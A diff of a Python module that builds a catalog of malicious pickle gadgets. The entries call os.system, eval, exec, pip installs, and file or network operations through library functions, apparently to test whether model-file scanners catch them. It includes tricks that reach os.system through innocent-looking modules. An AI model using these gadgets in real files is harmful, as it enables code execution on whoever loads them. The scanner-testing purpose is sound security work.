@@ -4,9 +4,9 @@ Every entry is (id, technique, advisories, expression). The advisories are publi
 """
 import marshal
 
-from assembler import COMPANION, EXPRESSION, FILE, PORT, PYTHON, SH, SHELL, VICTIM, Build, Call, G, New, Raw, Seq, dump, emit
+from assembler import COMPANION, EXPRESSION, FILE, PYTHON, SH, SHELL, Build, Call, G, New, Raw, Seq, dump, emit
+from reach import reach
 
-ADDRESS = ("127.0.0.1", PORT)
 NESTED = dump(Call("os:system", SHELL))
 FUNCTION = Call("types:FunctionType", Call("builtins:compile", PYTHON, "m", "exec"), {})
 SYSTEM = G("os:system")
@@ -97,7 +97,7 @@ def gadgets():
     add(t, "doctest.run_docstring_examples", Call("doctest:run_docstring_examples", ">>> " + EXPRESSION + "\n", {}))
     add(t, "doctest.testfile", Call("doctest:testfile", f"{COMPANION}.doctest", False))
     add(t, "code.runsource", method("code:InteractiveInterpreter", "runsource", made("code:InteractiveInterpreter"), PYTHON))
-    add(t, "code.runcode", method("code:InteractiveInterpreter", "runcode", made("code:InteractiveInterpreter"), Call("builtins:compile", PYTHON, "m", "exec")), "GHSA-gc4f-hr8f-5cw3")
+    add(t, "code.runcode", method("code:InteractiveInterpreter", "runcode", made("code:InteractiveInterpreter"), Call("builtins:compile", PYTHON, "m", "exec")))
     add(t, "code.push", method("code:InteractiveConsole", "push", made("code:InteractiveConsole"), PYTHON))
     add(t, "codeop.compile_command", Call("builtins:exec", Call("codeop:compile_command", PYTHON)))
     add(t, "runpy._run_code", Call("runpy:_run_code", Call("builtins:compile", PYTHON, "m", "exec"), {}))
@@ -245,8 +245,8 @@ def gadgets():
     add(t, "numpy.testing.assert_raises", Call("numpy.testing:assert_raises", G("builtins:Exception"), SYSTEM, SHELL))
     add(t, "numpy.testing.measure", Call("numpy.testing:measure", PYTHON))
     add(t, "numpy.testing.rundocs", Call("numpy.testing:rundocs", f"{COMPANION}.py"))
-    add(t, "numpy runstring", Call("numpy.testing._private.utils:runstring", PYTHON, {}), "GHSA-fj43-3qmq-673f")
-    add(t, "numpy f2py getlincoef", Call("numpy.f2py.crackfortran:getlincoef", EXPRESSION, {}), "GHSA-8g3w-fx5v-hwh6")
+    add(t, "numpy runstring", Call("numpy.testing._private.utils:runstring", PYTHON, {}), "GHSA-fj43-3qmq-673f", "CVE-2025-71355")
+    add(t, "numpy f2py getlincoef", Call("numpy.f2py.crackfortran:getlincoef", EXPRESSION, {}))
     add(t, "numpy f2py _eval_length", Call("numpy.f2py.crackfortran:_eval_length", EXPRESSION, {}), "GHSA-6556-fwc2-fg2p", "CVE-2025-71339")
     add(t, "numpy f2py myeval", Call("numpy.f2py.crackfortran:myeval", EXPRESSION, {}, {}))
     add(t, "numpy exec_command", Call("numpy.distutils.exec_command:exec_command", SHELL))
@@ -271,6 +271,7 @@ def gadgets():
     add(t, "webbrowser.GenericBrowser", Call("webbrowser:GenericBrowser.open", Call("webbrowser:GenericBrowser", SH), "x"))
     add(t, "webbrowser.BackgroundBrowser", Call("webbrowser:BackgroundBrowser.open", Call("webbrowser:BackgroundBrowser", SH), "x"))
     add(t, "distutils.spawn", Call("distutils.spawn:spawn", SH))
+    add(t, "mlflow run entry point", Call("mlflow.projects.backend.local:_run_entry_point", SHELL, ".", "", ""), "modelscan issue 338")
     t = "package installers"
     add(t, "pip.main", Call("pip:main", ["download", "--no-deps", "--no-index", "-d", "castellan-pip", f"./{COMPANION}_package"]), "GHSA-655q-fx9r-782v", "CVE-2025-1716")
     add(t, "pip._internal.main", Call("pip._internal:main", ["download", "--no-deps", "--no-index", f"./{COMPANION}_package"]), "GHSA-vqmv-47xg-9wpr")
@@ -331,74 +332,7 @@ def gadgets():
     add(t, "torch checkpoint", Call("torch.utils.checkpoint:checkpoint", SYSTEM, SHELL))
     add(t, "torch DataLoader worker", Call("torch.utils.data._utils.pin_memory:pin_memory", Build(New("types:SimpleNamespace"), {"pin_memory": Call("functools:partial", SYSTEM, SHELL)})))
 
-    t = "file access"
-    add(t, "builtins.open", Call("builtins:open", FILE, "w"))
-    add(t, "io.open", Call("io:open", FILE, "w"))
-    add(t, "_io.open", Call("_io:open", FILE, "w"))
-    add(t, "io.FileIO", Call("io:FileIO", FILE, "w"), "GHSA-9726-w42j-3qjr", "CVE-2026-53872")
-    add(t, "_io.FileIO", Call("_io:FileIO", FILE, "w"))
-    add(t, "codecs.open", Call("codecs:open", FILE, "w"))
-    add(t, "os.open", Call("os:open", FILE, 65))
-    t = "file changes and removal"
-    for name, args in {"mkdir": (FILE,), "makedirs": (FILE,), "mkfifo": (FILE,), "symlink": ("x", FILE), "link": (VICTIM, FILE), "rename": (VICTIM, FILE), "remove": (VICTIM,), "unlink": (VICTIM,), "truncate": (VICTIM, 1), "replace": (VICTIM, FILE)}.items():
-        add(t, f"os.{name}", Call(f"os:{name}", *args))
-    add(t, "shutil.copy", Call("shutil:copy", VICTIM, FILE))
-    add(t, "shutil.copyfile", Call("shutil:copyfile", VICTIM, FILE))
-    add(t, "shutil.move", Call("shutil:move", VICTIM, FILE))
-    add(t, "shutil.rmtree", Call("shutil:rmtree", "castellan-victim-folder"))
-    add(t, "shutil.make_archive", Call("shutil:make_archive", FILE, "tar", "castellan-victim-folder"))
-    add(t, "pathlib.Path.write_text", Call("pathlib:Path.write_text", Call("pathlib:Path", FILE), "x"))
-    add(t, "pathlib.PosixPath.touch", Call("pathlib:PosixPath.touch", Call("pathlib:PosixPath", FILE)))
-    add(t, "pathlib.Path.unlink", Call("pathlib:Path.unlink", Call("pathlib:Path", VICTIM)))
-    t = "files through libraries"
-    add(t, "gzip.open", Call("gzip:open", FILE, "w"))
-    add(t, "bz2.BZ2File", Call("bz2:BZ2File", FILE, "w"))
-    add(t, "lzma.open", Call("lzma:open", FILE, "w"))
-    add(t, "zipfile.ZipFile", Call("zipfile:ZipFile", FILE, "w"))
-    add(t, "tarfile.open", Call("tarfile:open", FILE, "w"))
-    add(t, "wave.open", Call("wave:open", FILE, "wb"))
-    add(t, "dbm.dumb.open", Call("dbm.dumb:open", FILE, "n"))
-    add(t, "shelve.open", Call("shelve:open", FILE))
-    add(t, "sqlite3.connect", Call("sqlite3:connect", FILE))
-    add(t, "mailbox.Maildir", Call("mailbox:Maildir", FILE))
-    add(t, "tempfile.mkstemp", Call("tempfile:mkstemp", "x", "castellan", "."))
-    add(t, "tempfile.mkdtemp", Call("tempfile:mkdtemp", "x", "castellan", "."))
-    add(t, "logging.FileHandler", Call("logging:FileHandler", FILE), "GHSA-m7j5-r2p5-c39r", "CVE-2026-56304")
-    add(t, "logging RotatingFileHandler", Call("logging.handlers:RotatingFileHandler", FILE))
-    add(t, "logging WatchedFileHandler", Call("logging.handlers:WatchedFileHandler", FILE))
-    add(t, "argparse.FileType", Call(Call("argparse:FileType", "w"), FILE))
-    add(t, "distutils write_file", Call("distutils.file_util:write_file", FILE, ["x"]), "GHSA-m273-6v24-x4m4", "CVE-2025-71321")
-    add(t, "distutils mkpath", Call("distutils.dir_util:mkpath", FILE))
-    add(t, "py_compile.compile", Call("py_compile:compile", f"{COMPANION}.py", FILE))
-    add(t, "numpy.save", Call("numpy:save", FILE, [1]))
-    add(t, "numpy.savetxt", Call("numpy:savetxt", FILE, [1]))
-    add(t, "numpy.memmap", Call("numpy:memmap", FILE, "u1", "w+", 0, (4,)))
-    add(t, "numpy open_memmap", Call("numpy.lib.format:open_memmap", FILE, "w+", "u1", (4,)))
-    add(t, "joblib.dump", Call("joblib:dump", 1, FILE))
-    add(t, "torch.save", Call("torch:save", 1, FILE))
-    add(t, "pandas get_handle", Call("pandas.io.common:get_handle", FILE, "w"))
-    add(t, "pandas to_pickle", Call("pandas:to_pickle", 1, FILE))
-    add(t, "fileinput.input", Call("builtins:list", Call("fileinput:input", VICTIM, True)))
-    add(t, "trace CoverageResults", Call("trace:CoverageResults", None, None, f"{COMPANION}.pkl"))
-
-    t = "network access"
-    add(t, "socket.create_connection", Call("socket:create_connection", ADDRESS))
-    add(t, "socket.connect", Call("socket:socket.connect", Call("socket:socket"), ADDRESS))
-    add(t, "_socket.connect", Call("_socket:socket.connect", Call("_socket:socket"), ADDRESS))
-    add(t, "urllib.urlopen", Call("urllib.request:urlopen", f"http://127.0.0.1:{PORT}/"))
-    add(t, "urllib.urlretrieve", Call("urllib.request:urlretrieve", "file:" + "/etc/hostname", FILE))
-    add(t, "http.client", Call("http.client:HTTPConnection.request", Call("http.client:HTTPConnection", "127.0.0.1", PORT), "GET", "/"))
-    add(t, "smtplib.SMTP", Call("smtplib:SMTP", "127.0.0.1", PORT), "GHSA-mhc9-48gj-9gp3")
-    add(t, "ftplib.FTP.connect", Call("ftplib:FTP.connect", Call("ftplib:FTP"), "127.0.0.1", PORT), "GHSA-mhc9-48gj-9gp3")
-    add(t, "poplib.POP3", Call("poplib:POP3", "127.0.0.1", PORT))
-    add(t, "imaplib.IMAP4", Call("imaplib:IMAP4", "127.0.0.1", PORT), "GHSA-mhc9-48gj-9gp3")
-    add(t, "nntplib.NNTP", Call("nntplib:NNTP", "127.0.0.1", PORT))
-    add(t, "telnetlib.Telnet", Call("telnetlib:Telnet", "127.0.0.1", PORT))
-    add(t, "ssl.get_server_certificate", Call("ssl:get_server_certificate", ADDRESS), "GHSA-93mv-x874-956g", "CVE-2025-46417")
-    add(t, "asyncio.open_connection", Call("asyncio:run", Call("asyncio:open_connection", "127.0.0.1", PORT)))
-    add(t, "multiprocessing Client", Call("multiprocessing.connection:Client", ADDRESS))
-    add(t, "pandas.read_csv url", Call("pandas:read_csv", f"http://127.0.0.1:{PORT}/"))
-    add(t, "torch load_state_dict_from_url", Call("torch.hub:load_state_dict_from_url", f"http://127.0.0.1:{PORT}/x", "."))
+    reach(add)
     return out
 
 
@@ -411,48 +345,3 @@ def npy_object(payload):
 def torch_legacy(payload):
     magic = dump(0x1950A86A20F9469CFC6C, 2)
     return magic + dump(1001, 2) + dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2) + payload + dump([], 2)
-
-
-# Modules that happen to hold another one: a dotted name (protocol 4) walks through them.
-INNOCENT = [
-    ("logging", "os.system"), ("random", "_os.system"), ("shutil", "os.system"), ("tempfile", "_os.system"), ("pathlib", "os.system"),
-    ("glob", "os.system"), ("inspect", "os.system"), ("os", "path.os.system"), ("posixpath", "os.system"), ("warnings", "sys.modules"),
-    ("collections", "_sys.modules"), ("weakref", "sys.modules"), ("enum", "sys.modules"), ("json", "codecs.builtins.eval"),
-    ("numpy.lib._datasource", "os.system"), ("numpy.compat.py3k", "os.system"), ("joblib.disk", "shutil.os.system"), ("scipy.stats._sobol", "os.system"), ("scipy.fft._pocketfft.helper", "os.system"), ("torch.fx.node", "builtins.eval"), ("torch.jit._trace", "os.system"), ("torch.hub", "os.system"), ("torch.utils.data.dataloader", "os.system"), ("torch.serialization", "pickle.loads"), ("torch.jit.annotations", "builtins.eval"), ("pandas.core.common", "builtins.eval"), ("pandas.core.generic", "pickle.loads"), ("pandas.io.pickle", "pickle.loads"), ("sklearn.utils._openmp_helpers", "os.system"), ("joblib.externals.cloudpickle", "pickle.loads"), ("joblib._memmapping_reducer", "os.system"), ("torch._jit_internal", "pickle.loads"), ("numpy.random._pickle", "__builtins__"), ("numpy", "testing._private.utils.os.system"), ("numpy", "lib.format.pickle.loads"),
-    ("torch", "os.system"), ("torch._utils", "sys.modules"), ("torch.serialization", "os.system"), ("torch.storage", "io.open"), ("torch", "builtins.eval"),
-    ("joblib", "os.system"), ("joblib.numpy_pickle", "os.system"), ("joblib.numpy_pickle", "pickle.loads"), ("sklearn", "os.system"), ("sklearn.base", "inspect.os.system"),
-    ("pandas.io.common", "os.system"), ("pandas", "io.common.os.system"), ("pandas.compat.pickle_compat", "pkl.loads"), ("codecs", "builtins.eval"),
-    ("collections", "namedtuple.__globals__"), ("copyreg", "_reconstructor.__globals__"), ("functools", "reduce.__self__"), ("builtins", "print.__self__.eval"),
-    ("builtins", "getattr.__self__.exec"), ("datetime", "sys.modules"), ("fractions", "operator.attrgetter"), ("statistics", "sys.modules"),
-    ("uuid", "os.system"), ("zipfile", "os.system"), ("threading", "_os.system"), ("subprocess", "os.system"), ("dataclasses", "sys.modules"), ("re", "enum.sys.modules"), ("typing", "sys.modules"),
-]
-
-
-def innocent():
-    out = []
-    for module, name in INNOCENT:
-        start = G(f"{module}:{name}")
-        if name.endswith(("system",)):
-            expression = Call(start, SHELL)
-        elif name.endswith("modules"):
-            found = Call(G(f"{module}:{name}.get"), "posix")
-            bound = Call(Call("operator:attrgetter", "system"), found) if len(out) % 2 else Call("builtins:getattr", found, "system")
-            expression = Call(bound, SHELL)
-        elif name.endswith("eval"):
-            expression = Call(start, EXPRESSION)
-        elif name.endswith("exec"):
-            expression = Call(start, PYTHON)
-        elif name.endswith("open"):
-            expression = Call(start, FILE, "w")
-        elif name.endswith("loads"):
-            expression = Call(start, NESTED)
-        elif name.endswith("__globals__"):
-            expression = Call(Call("operator:getitem", Call("operator:getitem", start, "__builtins__"), "eval"), EXPRESSION)
-        elif name.endswith("__builtins__"):
-            expression = Call(Call("operator:getitem", start, "eval"), EXPRESSION)
-        elif name.endswith("reduce.__self__"):
-            expression = Call(Call("functools:reduce.__self__.reduce", G("builtins:getattr"), ["system"], G("logging:os")), SHELL)
-        else:
-            expression = Call(Call(Call(start, "system"), G("logging:os")), SHELL)
-        out.append((f"{module}.{name}", "dotted name through an innocent module", ["GHSA-q5qq-mvfm-j35x", "CVE-2026-22609"], expression))
-    return out
